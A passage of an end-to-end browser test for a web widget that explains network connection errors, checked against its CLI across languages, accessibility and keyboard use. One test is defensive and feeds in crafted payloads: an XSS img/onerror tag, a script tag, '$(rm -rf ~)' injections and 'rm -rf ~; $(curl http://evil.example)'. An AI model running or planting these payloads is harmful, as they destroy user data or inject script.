// The embed (ui/embed/dist) in headless Chromium (Debian's), served by a plain static
// server on 127.0.0.1 under a strict Content-Security-Policy, as a host page would.
// The answers shown are compared with the native CLI (`portdoctor explain --json`) and
// with the same WebAssembly run here in Node. Screenshots go to tests/artifacts/.
//
//   scripts/build-web.sh && npm --prefix ui run build:embed && npm --prefix ui run e2e:embed
//
// PORTDOCTOR_BIN: the CLI (default $CARGO_TARGET_DIR/debug/portdoctor, from
// `cargo build -p portdoctor`). PORTDOCTOR_WEB_PKG: wasm-bindgen's output (default
// ui/embed/pkg). CHROMIUM: the browser (default /usr/bin/chromium).
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { createRequire } from 'node:module';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { FluentBundle, FluentResource } from '@fluent/bundle';
import { assert, run } from './lib.mjs';

// Every wait below has its own deadline; this one is for the whole run.
const WHOLE_RUN_MS = 110_000;
setTimeout(() => {
  console.error(`e2e:embed: still running after ${WHOLE_RUN_MS / 1000} s, stopping`);
  process.exit(1);
}, WHOLE_RUN_MS).unref();

const require = createRequire(import.meta.url);
const repo = path.resolve(import.meta.dirname, '../../..');
const dist = path.join(repo, 'ui/embed/dist');
const pkg = path.resolve(process.env.PORTDOCTOR_WEB_PKG ?? path.join(repo, 'ui/embed/pkg'));
const artifacts = path.join(repo, 'tests/artifacts');
fs.mkdirSync(artifacts, { recursive: true });
const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'portdoctor-embed-'));
process.on('exit', () => fs.rmSync(scratch, { recursive: true, force: true }));

function need(file, how) {
  if (!fs.existsSync(file)) {
    console.error(`${path.relative(process.cwd(), file)} is missing: ${how}`);
    process.exit(2);
  }
}
for (const f of ['portdoctor-embed.js', 'portdoctor-embed.inline.js', 'portdoctor_web_bg.wasm', 'portdoctor_explain_bg.wasm', 'demo/index.html']) {
  need(path.join(dist, f), 'run scripts/build-web.sh and npm --prefix ui run build:embed');
}
const targetDir = process.env.CARGO_TARGET_DIR ?? path.join(os.homedir(), '.cache/portdoctor/target');
const cli = process.env.PORTDOCTOR_BIN ?? path.join(targetDir, 'debug/portdoctor');
need(cli, 'build the CLI: cargo build -p portdoctor (or set PORTDOCTOR_BIN)');
need(path.join(pkg, 'portdoctor_web.js'), 'run scripts/build-web.sh');

// ---------------------------------------------------------------------------------
// The references: the CLI, and the same WebAssembly in Node.

/** `portdoctor explain --json --lang L text` (it exits 1 when the text holds no error). */
function cliExplain(text, lang) {
  try {
    return JSON.parse(execFileSync(cli, ['explain', '--json', '--lang', lang, text], { encoding: 'utf8', timeout: 10_000 }));
  } catch (e) {
    if (e.stdout) return JSON.parse(e.stdout);
    throw e;
  }
}

const wasm = await import(pathToFileURL(path.join(pkg, 'portdoctor_web.js')).href);
try {
  await wasm.default({ module_or_path: fs.readFileSync(path.join(pkg, 'portdoctor_web_bg.wasm')) });
} catch (e) {
  // Seen with binaryen 108's wasm-opt run on wasm-bindgen's output: it exports the
  // function table as __wbindgen_externrefs. wasm-opt must run before wasm-bindgen.
  console.error(`the WebAssembly in ${path.relative(process.cwd(), pkg)} does not start: ${e.message}`);
  if (/Table\.set/.test(e.message)) console.error('(its externref table is broken: run wasm-opt on the cargo output, before wasm-bindgen)');
  process.exit(2);
}
const unwrap = (text) => {
  const a = JSON.parse(text);
  if ('ok' in a) return a.ok;
  const e = new Error(a.error.message);
  e.code = a.error.code;
  throw e;
};
// Only English is built in: the reference speaks every language, as the page does
// once it has fetched a language's file.
for (const file of fs.readdirSync(path.join(repo, 'crates/core/i18n'))) {
  const lang = file.replace(/\.ftl$/, '');
  if (lang === file || lang === 'en') continue;
  unwrap(wasm.addLanguage(lang, fs.readFileSync(path.join(repo, 'crates/core/i18n', file), 'utf8')));
}
const ref = {
  explain: (text, lang) => unwrap(wasm.explain(text, lang, 'linux', Date.now(), 1, 2)),
  understand: (text, lang) => unwrap(wasm.understand(text, lang)),
  openReport: (text, lang) => unwrap(wasm.openReport(text, lang)),
  render: (text, format, lang) => unwrap(wasm.render(text, format, lang)),
  openError: (text, lang) => {
    try {
      unwrap(wasm.openReport(text, lang));
      return null;
    } catch (e) {
      return e.message;
    }
  },
};

/** A language's catalogue: `say(id, args)` is the sentence the page should show. */
function catalogue(lang) {
  const source = fs.readFileSync(path.join(repo, `crates/core/i18n/${lang}.ftl`), 'utf8');
  const english = fs.readFileSync(path.join(repo, 'crates/core/i18n/en.ftl'), 'utf8');
  const bundle = new FluentBundle(lang, { useIsolating: false });
  bundle.addResource(new FluentResource(english));
  bundle.addResource(new FluentResource(source), { allowOverrides: true });
  return (id, args = {}) => bundle.formatPattern(bundle.getMessage(id).value, args);
}

// ---------------------------------------------------------------------------------
// A plain static server for ui/embed/dist, with the policy a strict page has.

const STRICT = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; base-uri 'none'; form-action 'none'; object-src 'none'";
const NO_WASM = "default-src 'self'; script-src 'self'; style-src 'self'";
const TYPES = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript; charset=utf-8',
  '.mjs': 'text/javascript; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.wasm': 'application/wasm',
  '.json': 'application/json',
  '.md': 'text/markdown; charset=utf-8',
  '.ftl': 'text/plain; charset=utf-8',
};
/** Pages only this test serves: the inlined variant alone, with nothing to fetch. */
const PAGES = {
  '/inline.html': `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>inline</title><link rel="icon" href="/demo/favicon.png">
<script type="module" src="/portdoctor-embed.inline.js"></script></head>
<body><main><h1>Inline</h1><port-doctor-explain></port-doctor-explain></main></body></html>`,
  '/explain-only.html': `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>explain only</title><link rel="icon" href="/demo/favicon.png">
<script type="module" src="/portdoctor-embed.js"></script></head>
<body><main><h1>Explain</h1><port-doctor-explain></port-doctor-explain></main></body></html>`,
};
const requests = [];
const server = http.createServer((req, res) => {
  const url = new URL(req.url ?? '/', 'http://127.0.0.1');
  requests.push({ method: req.method, path: url.pathname });
  const csp = url.searchParams.has('nowasm') ? NO_WASM : STRICT;
  const headers = { 'Content-Security-Policy': csp, 'X-Content-Type-Options': 'nosniff', 'Cache-Control': 'no-store' };
  if (req.method !== 'GET' && req.method !== 'HEAD') {
    res.writeHead(405, headers).end();
    return;
  }
  if (PAGES[url.pathname]) {
    res.writeHead(200, { ...headers, 'Content-Type': TYPES['.html'] }).end(PAGES[url.pathname]);
    return;
  }
  const file = path.normalize(path.join(dist, decodeURIComponent(url.pathname)));
  if (!file.startsWith(dist + path.sep) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
    res.writeHead(404, headers).end();
    return;
  }
  res.writeHead(200, { ...headers, 'Content-Type': TYPES[path.extname(file)] ?? 'application/octet-stream' });
  fs.createReadStream(file).pipe(res);
});
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const origin = `http://127.0.0.1:${server.address().port}`;
const demo = `${origin}/demo/index.html`;

// ---------------------------------------------------------------------------------
// The browser.

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  timeout: 20_000,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});

const EXPLAIN = 'port-doctor-explain';
const REPORT = 'port-doctor-report';
const tid = (host, id) => `${host} [data-testid="${id}"]`;

/** A page of the demo (or `url`), with what it logged, its errors and its events. */
async function page({ url = demo, locale = 'en-US', bypassCSP = false, width = 1000, height = 900 } = {}) {
  const context = await browser.newContext({ locale, bypassCSP, viewport: { width, height } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  const p = await context.newPage();
  p.setDefaultTimeout(10_000);
  p.problems = [];
  p.on('pageerror', (e) => p.problems.push(`pageerror: ${e.message}`));
  p.on('console', (m) => {
    if (m.type() === 'error') p.problems.push(`console: ${m.text()}`);
  });
  p.outside = [];
  p.on('request', (r) => {
    const u = new URL(r.url());
    if (u.origin !== origin || r.method() !== 'GET') p.outside.push(`${r.method()} ${r.url()}`);
  });
  // The events the elements send, as the host page receives them.
  await p.addInitScript(() => {
    window.__events = [];
    for (const type of ['portdoctor-explained', 'portdoctor-opened', 'portdoctor-error']) {
      document.addEventListener(type, (e) => window.__events.push({ type, detail: JSON.parse(JSON.stringify(e.detail)) }));
    }
  });
  await p.goto(url, { timeout: 10_000 });
  return p;
}

async function ready(p, host = EXPLAIN) {
  await p.waitForSelector(tid(host, host === EXPLAIN ? 'input' : 'file'), { state: 'attached', timeout: 10_000 });
}

async function events(p, type) {
  return (await p.evaluate(() => window.__events)).filter((e) => e.type === type);
}

/** Pastes `text` into the explain element and presses its button; the headline shown. */
async function explainIn(p, text) {
  await ready(p);
  const before = (await events(p, 'portdoctor-explained')).length;
  await p.fill(tid(EXPLAIN, 'input'), text);
  await p.click(tid(EXPLAIN, 'explain'));
  await p.waitForFunction((n) => window.__events.filter((e) => e.type === 'portdoctor-explained').length > n, before, { timeout: 10_000 });
  return ((await p.textContent(tid(EXPLAIN, 'headline'))) ?? '').trim();
}

/** Opens a file in the report element through its file input. */
async function openIn(p, file) {
  await ready(p, REPORT);
  const before = (await p.evaluate(() => window.__events.length));
  await p.setInputFiles(tid(REPORT, 'file'), file);
  await p.waitForFunction((n) => window.__events.length > n, before, { timeout: 10_000 });
  const last = (await p.evaluate(() => window.__events)).at(-1);
  return last;
}

/** Sets an attribute on the first element of a tag. */
async function setAttr(p, selector, name, value) {
  await p.evaluate(([s, n, v]) => (v == null ? document.querySelector(s).removeAttribute(n) : document.querySelector(s).setAttribute(n, v)), [selector, name, value]);
}

/** No serious or critical violation, in the page and inside the elements' shadow roots. */
async function axe(p, label) {
  await p.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
  const result = await p.evaluate(async () => {
    const all = await globalThis.axe.run(document, { resultTypes: ['violations', 'passes'] });
    // Each shadow root on its own as well (axe names a node in a shadow root by a path).
    const inside = [];
    for (const host of ['port-doctor-explain', 'port-doctor-report']) {
      if (!document.querySelector(host)?.shadowRoot) continue;
      const r = await globalThis.axe.run({ include: { fromShadowDom: [host, '.pd'] } }, { resultTypes: ['violations', 'passes'] });
      inside.push({ host, violations: r.violations, passes: r.passes.length });
    }
    const pick = (v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => JSON.stringify(n.target)) });
    const shadowPasses = all.passes.flatMap((x) => x.nodes).filter((n) => Array.isArray(n.target[0])).length;
    return { violations: all.violations.map(pick), inside: inside.map((i) => ({ ...i, violations: i.violations.map(pick) })), shadowPasses };
  });
  const bad = [...result.violations, ...result.inside.flatMap((i) => i.violations)].filter((v) => v.impact === 'serious' || v.impact === 'critical');
  assert(bad.length === 0, `${label}: ${bad.map((v) => `${v.id} (${v.impact}) at ${v.nodes.join(' ')}`).join('; ')}`);
  assert(result.shadowPasses > 0, `${label}: axe looked at nothing inside the shadow roots`);
  assert(result.inside.every((i) => i.passes > 0), `${label}: axe found nothing to check in a shadow root`);
}

/** The page is no wider than its window (nothing scrolls sideways). */
async function fits(p, width, label) {
  await p.setViewportSize({ width, height: 900 });
  const wide = await p.evaluate(() => Math.max(document.documentElement.scrollWidth, ...[...document.querySelectorAll('port-doctor-explain, port-doctor-report')].map((e) => e.getBoundingClientRect().right)));
  assert(wide <= width, `${label}: ${wide} px wide at ${width} px`);
}

function noProblems(p, label) {
  assert(p.problems.length === 0, `${label}: ${p.problems.join(' | ')}`);
  assert(p.outside.length === 0, `${label}: requests beyond the page's own files: ${p.outside.join(', ')}`);
}

/** Every text node and attribute inside both elements' shadow roots. */
async function shadowFacts(p) {
  return p.evaluate(() => {
    const out = { imgs: 0, scripts: 0, handlers: 0, commands: [], text: '' };
    for (const host of document.querySelectorAll('port-doctor-explain, port-doctor-report')) {
      const root = host.shadowRoot;
      out.imgs += root.querySelectorAll('img, image, iframe, object, embed').length;
      out.scripts += root.querySelectorAll('script').length;
      for (const e of root.querySelectorAll('*')) for (const a of e.attributes) if (/^on/i.test(a.name)) out.handlers++;
      out.commands.push(...[...root.querySelectorAll('[data-testid="command"]')].map((c) => c.textContent));
      out.text += root.textContent;
    }
    out.imgs += document.querySelectorAll('img').length;
    return out;
  });
}

const MESSAGES = [
  { name: 'refused', lang: 'en', text: 'curl: (7) Failed to connect to localhost port 8080 after 0 ms: Connection refused', failure: 'refused' },
  { name: 'timeout', lang: 'en', text: 'curl: (28) Failed to connect to db.example.com port 5432 after 10002 ms: Timeout was reached', failure: 'timeout' },
  { name: 'DNS failure', lang: 'en', text: 'curl: (6) Could not resolve host: api.example.invalid', failure: 'dns' },
  { name: 'Chinese Windows refusal', lang: 'zh-CN', text: '由于目标计算机积极拒绝，无法连接。 127.0.0.1:7890', failure: 'refused' },
  { name: 'German refusal', lang: 'de', text: 'ssh: connect to host db1 port 22: Verbindungsaufbau abgelehnt', failure: 'refused' },
];

const ok = await run([
  ['the demo loads under a strict policy: both elements start, only the page\'s own files are fetched', async () => {
    const p = await page();
    await ready(p, EXPLAIN);
    await ready(p, REPORT);
    const say = catalogue('en');
    assert((await p.textContent(`${EXPLAIN} label`))?.trim() === say('embed-explain-label'), 'the box has its label');
    assert((await p.textContent(tid(EXPLAIN, 'explain')))?.trim() === say('ui-explain'), 'the button says ui-explain');
    assert((await p.textContent(`${REPORT} label`))?.trim() === say('ui-open-report'), 'the picker has its label');
    // With a report element on the page, the whole module serves both elements.
    const wasmRequests = [...new Set(requests.filter((r) => r.path.endsWith('.wasm')).map((r) => r.path))];
    assert(JSON.stringify(wasmRequests) === JSON.stringify(['/portdoctor_web_bg.wasm']), `the demo fetched ${wasmRequests.join(', ')}`);
    const type = (await fetch(`${origin}/portdoctor_web_bg.wasm`, { method: 'HEAD', signal: AbortSignal.timeout(5000) })).headers.get('content-type');
    assert(type === 'application/wasm', `the .wasm is served as ${type}`);
    noProblems(p, 'demo');
    await p.screenshot({ path: path.join(artifacts, 'embed-demo-start.png'), fullPage: true });
    await p.context().close();
  }],

  // One page for all of them, as a visitor pasting one message after another.
  ['a refused, a timeout, a DNS failure, a Chinese and a German message show the CLI\'s answers; the event carries what was read', async () => {
    const p = await page();
    await ready(p);
    for (const m of MESSAGES) {
      const label = `${m.name} (${m.lang})`;
      await setAttr(p, EXPLAIN, 'lang', m.lang);
      await p.waitForFunction(([s, l]) => document.querySelector(s).shadowRoot.querySelector('.pd')?.getAttribute('lang') === l, [EXPLAIN, m.lang], { timeout: 5000 });
      // The preview as you type (debounced), in the element's language.
      await p.fill(tid(EXPLAIN, 'input'), m.text);
      const understood = ref.understand(m.text, m.lang);
      await p.waitForFunction(([s, want]) => (document.querySelector(s).shadowRoot.querySelector('[data-testid="understood"]')?.textContent ?? '').includes(want),
        [EXPLAIN, understood.summary], { timeout: 5000 });
      const shown = await explainIn(p, m.text);
      const native = cliExplain(m.text, m.lang);
      const wasmReport = ref.explain(m.text, m.lang);
      assert(shown === native.findings[0].headline, `${label}: shown "${shown}", the CLI says "${native.findings[0].headline}"`);
      assert(shown === wasmReport.view.answer.headline, `${label}: shown "${shown}", the view says "${wasmReport.view.answer.headline}"`);
      const event = (await events(p, 'portdoctor-explained')).at(-1);
      assert(event.detail.report.view.answer.headline === shown, `${label}: the event carries the report shown`);
      assert(JSON.stringify(event.detail.parsed) === JSON.stringify(native.parsed), `${label}: parsed ${JSON.stringify(event.detail.parsed)} vs the CLI's ${JSON.stringify(native.parsed)}`);
      assert(event.detail.parsed.failure === m.failure, `${label}: read as ${event.detail.parsed.failure}`);
      assert(JSON.stringify(event.detail.report.findings.map((f) => f.code)) === JSON.stringify(native.findings.map((f) => f.code)), `${label}: the same findings as the CLI`);
      // What to do, what we read, the commands: the view's own.
      const steps = await p.$$eval(`${EXPLAIN} [data-testid="steps"] li`, (li) => li.map((x) => x.textContent));
      assert(JSON.stringify(steps) === JSON.stringify(wasmReport.view.answer.steps), `${label}: steps ${steps}`);
      const read = await p.$$eval(`${EXPLAIN} [data-testid="understood-rows"] .row-text`, (li) => li.map((x) => x.textContent));
      assert(JSON.stringify(read) === JSON.stringify(wasmReport.view.understood), `${label}: understood ${read}`);
      const commands = await p.$$eval(`${EXPLAIN} [data-testid="command"]`, (c) => c.map((x) => x.textContent));
      assert(JSON.stringify(commands) === JSON.stringify(wasmReport.view.commands.map((c) => c.command)), `${label}: commands ${commands}`);
      const say = catalogue(m.lang);
      assert((await p.textContent(`${EXPLAIN} [data-testid="section-steps"] h4`))?.trim() === say('section-steps'), `${label}: the steps heading is in the language`);
      // The headline is announced (a polite live region), the focus stays in the box.
      await p.waitForFunction(([s, h]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="announce"]')?.textContent === h, [EXPLAIN, shown], { timeout: 5000 });
    }
    noProblems(p, 'messages');
    await p.context().close();
  }],

  ['lang on the element says the answer again in that language, with the same report ID; the page\'s lang is followed without one', async () => {
    const p = await page();
    const text = MESSAGES[0].text;
    const before = await explainIn(p, text);
    const id = (await events(p, 'portdoctor-explained'))[0].detail.report.id;
    await setAttr(p, EXPLAIN, 'lang', 'fr');
    const fr = ref.explain(text, 'fr').view.answer.headline;
    await p.waitForFunction(([s, want]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="headline"]')?.textContent === want, [EXPLAIN, fr], { timeout: 5000 });
    assert(before !== fr, 'the French headline differs');
    const helpdeskId = (await p.textContent(tid(EXPLAIN, 'helpdesk-id'))) ?? '';
    assert(helpdeskId.includes(id), `the report ID stays: ${helpdeskId} vs ${id}`);
    assert((await p.textContent(tid(EXPLAIN, 'explain')))?.trim() === catalogue('fr')('ui-explain'), 'the button is in French');
    // Without lang of its own, the element follows <html lang> (the demo's menu sets it).
    await setAttr(p, EXPLAIN, 'lang', null);
    await p.selectOption('#language', 'ru');
    const ru = ref.explain(text, 'ru').view.answer.headline;
    await p.waitForFunction(([s, want]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="headline"]')?.textContent === want, [EXPLAIN, ru], { timeout: 5000 });
    assert((await p.textContent('h1'))?.trim() === catalogue('ru')('embed-demo-title'), 'the demo page is in Russian');
    assert((await p.textContent(`${REPORT} label`))?.trim() === catalogue('ru')('ui-open-report'), 'the report element follows the page too');
    noProblems(p, 'languages');
    await p.context().close();
  }],

  ['compact shows the headline and the steps; the rest is behind a toggle', async () => {
    const p = await page();
    await ready(p);
    await setAttr(p, EXPLAIN, 'compact', '');
    await explainIn(p, MESSAGES[1].text);
    assert(await p.isVisible(tid(EXPLAIN, 'steps')), 'the steps show');
    assert(!(await p.isVisible(tid(EXPLAIN, 'helpdesk'))), 'the helpdesk details wait behind the toggle');
    assert(!(await p.isVisible(tid(EXPLAIN, 'why'))), 'why waits behind the toggle');
    const toggle = tid(EXPLAIN, 'details-toggle');
    assert((await p.getAttribute(toggle, 'aria-expanded')) === 'false', 'collapsed');
    await p.click(toggle);
    assert((await p.getAttribute(toggle, 'aria-expanded')) === 'true', 'expanded');
    assert(await p.isVisible(tid(EXPLAIN, 'why')), 'why shows after the toggle');
    assert(await p.isVisible(tid(EXPLAIN, 'commands')), 'the commands show after the toggle');
    await p.screenshot({ path: path.join(artifacts, 'embed-compact.png'), fullPage: true });
    noProblems(p, 'compact');
    await p.context().close();
  }],

  ['a JSON report made in Chinese and its ticket file open in French, rebuilt from the data', async () => {
    const message = MESSAGES[3].text;
    const saved = cliExplain(message, 'zh-CN');
    assert(saved.lang === 'zh-CN', `the CLI made it in ${saved.lang}`);
    const json = path.join(scratch, 'report-zh.json');
    fs.writeFileSync(json, JSON.stringify(saved, null, 2));
    const ticket = path.join(scratch, 'report-zh.md');
    fs.writeFileSync(ticket, ref.render(JSON.stringify(saved), 'markdown', 'zh-CN'));
    const expected = ref.openReport(JSON.stringify(saved), 'fr');
    const say = catalogue('fr');
    for (const file of [json, ticket]) {
      const name = path.basename(file);
      const p = await page();
      await ready(p, REPORT);
      await setAttr(p, REPORT, 'lang', 'fr');
      await p.waitForFunction(([s, want]) => document.querySelector(s).shadowRoot.querySelector('label')?.textContent === want, [REPORT, say('ui-open-report')], { timeout: 5000 });
      const event = await openIn(p, file);
      assert(event.type === 'portdoctor-opened', `${name}: ${JSON.stringify(event)}`);
      assert(event.detail.report.id === saved.id && event.detail.fileName === name, `${name}: the event carries the report`);
      const headline = ((await p.textContent(tid(REPORT, 'headline'))) ?? '').trim();
      assert(headline === expected.view.answer.headline, `${name}: "${headline}" vs "${expected.view.answer.headline}"`);
      assert(headline !== saved.findings[0].headline && !/[\u4e00-\u9fff]{2}/.test(headline.replace(/[\d.:]/g, '')), `${name}: still Chinese: ${headline}`);
      const banner = (await p.textContent(tid(REPORT, 'opened-banner'))) ?? '';
      assert(banner.includes(say('ui-opened-label')), `${name}: the banner is French: ${banner}`);
      assert(banner.includes(say('ui-helpdesk-id', { id: saved.id })), `${name}: the ID: ${banner}`);
      assert(banner.includes(expected.view.provenance.created_utc), `${name}: the time in UTC`);
      assert(banner.includes(expected.view.provenance.lines[0]), `${name}: whose computer: ${expected.view.provenance.lines[0]}`);
      const language = ((await p.textContent(tid(REPORT, 'opened-language'))) ?? '').trim();
      assert(language === say('embed-their-language', { language: expected.view.provenance.language_label }), `${name}: ${language}`);
      assert(((await p.textContent(tid(REPORT, 'opened-tried'))) ?? '') === saved.parsed.text, `${name}: what they pasted`);
      const commands = await p.$$eval(`${REPORT} [data-testid="command"]`, (c) => c.map((x) => x.textContent));
      assert(commands.length > 0 && JSON.stringify(commands) === JSON.stringify(expected.view.commands.map((c) => c.command)), `${name}: commands ${commands}`);
      const evidence = (await p.textContent(tid(REPORT, 'helpdesk-evidence'))) ?? '';
      assert(evidence === expected.view.helpdesk.join('\n'), `${name}: helpdesk lines: ${evidence}`);
      // The reader lands on the answer.
      const focused = await p.evaluate((s) => document.querySelector(s).shadowRoot.activeElement?.getAttribute('data-testid'), REPORT);
      assert(focused === 'headline', `${name}: focus on ${focused}`);
      await p.screenshot({ path: path.join(artifacts, `embed-report-${path.extname(file).slice(1)}.png`), fullPage: true });
      noProblems(p, name);
      await p.context().close();
    }
  }],

  ['a crafted report shows its markup as text and none of its commands', async () => {
    const saved = cliExplain(MESSAGES[3].text, 'zh-CN');
    const evil = '<img src=x onerror="window.__pwned=1">';
    saved.parsed.host = `${evil}$(rm -rf ~)`;
    saved.parsed.client = '$(rm -rf ~)';
    saved.parsed.text = `${evil} connect ECONNREFUSED $(rm -rf ~):80`;
    for (const f of saved.findings) {
      f.headline = evil;
      f.why = `${evil} <script>window.__pwned=2</script>`;
      f.steps = ['$(rm -rf ~)', evil];
      f.subject.host = '$(rm -rf ~)';
    }
    saved.commands = saved.commands.map((c) => ({ ...c, command: 'rm -rf ~; $(curl http://evil.example)' }));
    saved.tool_version = evil;
    saved.os = `${evil}`;
    const file = path.join(scratch, 'crafted.json');
    fs.writeFileSync(file, JSON.stringify(saved));
    const p = await page();
    const event = await openIn(p, file);
    assert(event.type === 'portdoctor-opened', `opened: ${JSON.stringify(event).slice(0, 300)}`);
    // And a crafted message pasted into the other element.
    await explainIn(p, `${evil} connect ECONNREFUSED $(rm -rf ~):80`);
    const facts = await shadowFacts(p);
    assert(facts.imgs === 0 && facts.scripts === 0 && facts.handlers === 0, `markup became elements: ${JSON.stringify({ ...facts, text: undefined })}`);
    assert(facts.commands.every((c) => !c.includes('rm -rf') && !c.includes('$(') && !c.includes('evil.example')), `a command from the file: ${facts.commands.join(' | ')}`);
    assert(!(await p.$$eval(`${REPORT} [data-testid="steps"] li`, (li) => li.map((x) => x.textContent))).some((s) => s.includes('rm -rf') || s.includes('<img')), 'a step from the file');
    assert(facts.text.includes('<img src=x'), 'the markup shows as text, as it came');
    assert(!(await p.evaluate(() => window.__pwned)), 'the markup ran');
    await p.screenshot({ path: path.join(artifacts, 'embed-crafted.png'), fullPage: true });
    noProblems(p, 'crafted');
    await p.context().close();
  }],

  ['a file that is no report says why, in the reader\'s language; so does a text with no message', async () => {
    const bad = path.join(scratch, 'notes.txt');
    fs.writeFileSync(bad, 'just some notes, no report here');
    const p = await page();
    await ready(p, REPORT);
    await setAttr(p, REPORT, 'lang', 'es');
    await p.waitForFunction(([s, want]) => document.querySelector(s).shadowRoot.querySelector('label')?.textContent === want, [REPORT, catalogue('es')('ui-open-report')], { timeout: 5000 });
    const event = await openIn(p, bad);
    const want = ref.openError(fs.readFileSync(bad, 'utf8'), 'es');
    assert(event.type === 'portdoctor-error' && event.detail.code === 'report-unreadable', JSON.stringify(event));
    assert(((await p.textContent(tid(REPORT, 'error'))) ?? '') === want, `the error shown: ${await p.textContent(tid(REPORT, 'error'))} vs ${want}`);
    assert((await p.getAttribute(tid(REPORT, 'error'), 'role')) === 'alert', 'said as an alert');
    // Said again when the language changes.
    await setAttr(p, REPORT, 'lang', 'de');
    const inGerman = ref.openError(fs.readFileSync(bad, 'utf8'), 'de');
    await p.waitForFunction(([s, want]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="error"]')?.textContent === want, [REPORT, inGerman], { timeout: 5000 });
    // An empty box: the catalogue's own sentence, as an alert.
    await p.fill(tid(EXPLAIN, 'input'), '   ');
    await p.click(tid(EXPLAIN, 'explain'));
    await p.waitForFunction((s) => document.querySelector(s).shadowRoot.querySelector('[data-testid="error"]')?.textContent, EXPLAIN, { timeout: 5000 });
    assert(((await p.textContent(tid(EXPLAIN, 'error'))) ?? '') === catalogue('en')('text-error-empty'), 'the empty box says what to do');
    noProblems(p, 'errors');
    await p.context().close();
  }],

  ['keyboard only: Tab to the box, type, Enter; Ctrl+Enter for several lines; the button, a copy, the file picker', async () => {
    const p = await page();
    await ready(p);
    await ready(p, REPORT);
    const focused = () => p.evaluate(() => {
      let a = document.activeElement;
      while (a?.shadowRoot?.activeElement) a = a.shadowRoot.activeElement;
      if (a?.tagName === 'SUMMARY') return `${a.parentElement?.getAttribute('data-testid')}-summary`;
      return a?.getAttribute('data-testid') ?? a?.id ?? a?.tagName;
    });
    let tabs = 0;
    while ((await focused()) !== 'input' && tabs < 5) {
      await p.keyboard.press('Tab');
      tabs++;
    }
    assert((await focused()) === 'input', `Tab never reached the box (${await focused()})`);
    // One line: Enter explains.
    await p.keyboard.type(MESSAGES[0].text);
    await p.keyboard.press('Enter');
    const want = ref.explain(MESSAGES[0].text, 'en').view.answer.headline;
    await p.waitForFunction(([s, h]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="announce"]')?.textContent === h, [EXPLAIN, want], { timeout: 5000 });
    assert((await p.getAttribute(tid(EXPLAIN, 'announce'), 'aria-live')) === 'polite', 'the answer is announced');
    assert((await focused()) === 'input', 'the focus stays in the box');
    // Several lines: Enter is a new line, Ctrl+Enter explains.
    await p.keyboard.press('Control+A');
    await p.keyboard.type('psql: error: connection to server at "db1" (10.0.0.5), port 5432 failed:');
    await p.keyboard.press('Shift+Enter');
    await p.keyboard.type('Connection timed out');
    await p.keyboard.press('Enter');
    assert(((await p.inputValue(tid(EXPLAIN, 'input'))) ?? '').split('\n').length === 3, 'Enter in a message of several lines is a new line');
    await p.keyboard.press('Backspace');
    await p.keyboard.press('Control+Enter');
    const multi = ref.explain('psql: error: connection to server at "db1" (10.0.0.5), port 5432 failed:\nConnection timed out', 'en').view.answer.headline;
    await p.waitForFunction(([s, h]) => document.querySelector(s).shadowRoot.querySelector('[data-testid="headline"]')?.textContent === h, [EXPLAIN, multi], { timeout: 5000 });
    // The button by keyboard, with a focus ring.
    await p.keyboard.press('Tab');
    assert((await focused()) === 'explain', `after the box: ${await focused()}`);
    const ring = await p.evaluate((s) => getComputedStyle(document.querySelector(s).shadowRoot.activeElement).outlineStyle, EXPLAIN);
    assert(ring !== 'none', 'the focused button shows a focus ring');
    const before = (await events(p, 'portdoctor-explained')).length;
    await p.keyboard.press('Space');
    await p.waitForFunction((n) => window.__events.filter((e) => e.type === 'portdoctor-explained').length > n, before, { timeout: 5000 });
    // On to the commands (folded): open them with Enter, then a copy button, and press it.
    for (let i = 0; i < 30 && (await focused()) !== 'commands-summary'; i++) await p.keyboard.press('Tab');
    assert((await focused()) === 'commands-summary', 'Tab reaches the commands');
    await p.keyboard.press('Enter');
    await p.keyboard.press('Tab');
    assert((await focused()) === 'copy-command', 'Tab reaches a copy button');
    await p.keyboard.press('Enter');
    await p.waitForFunction((s) => (document.querySelector(s).shadowRoot.querySelector('[data-testid="copy-feedback"]')?.textContent ?? '') !== '', EXPLAIN, { timeout: 5000 });
    const copied = await p.evaluate(() => navigator.clipboard.readText());
    const shownCommands = await p.$$eval(`${EXPLAIN} [data-testid="command"]`, (c) => c.map((x) => x.textContent));
    assert(copied === shownCommands[0], `copied "${copied}", the first command is "${shownCommands[0]}"`);
    assert((await p.textContent(tid(EXPLAIN, 'copy-feedback')))?.includes(copied), 'the copy is said');
    // On to the report's file picker: the keyboard opens it.
    for (let i = 0; i < 40 && (await focused()) !== 'file'; i++) await p.keyboard.press('Tab');
    assert((await focused()) === 'file', 'Tab reaches the file picker');
    const labelRing = await p.evaluate((s) => getComputedStyle(document.querySelector(s).shadowRoot.querySelector('label')).outlineStyle, REPORT);
    assert(labelRing !== 'none', 'the focused picker shows a focus ring on its button');
    const saved = path.join(scratch, 'keyboard.json');
    fs.writeFileSync(saved, JSON.stringify(cliExplain(MESSAGES[2].text, 'en')));
    // Space opens the picker. On a loaded machine headless Chromium has lost that key
    // press once in a few runs: one more press, and the keyboard must still open it.
    const chooser = await Promise.all([p.waitForEvent('filechooser', { timeout: 5000 }), p.keyboard.press('Space')])
      .then(([c]) => c)
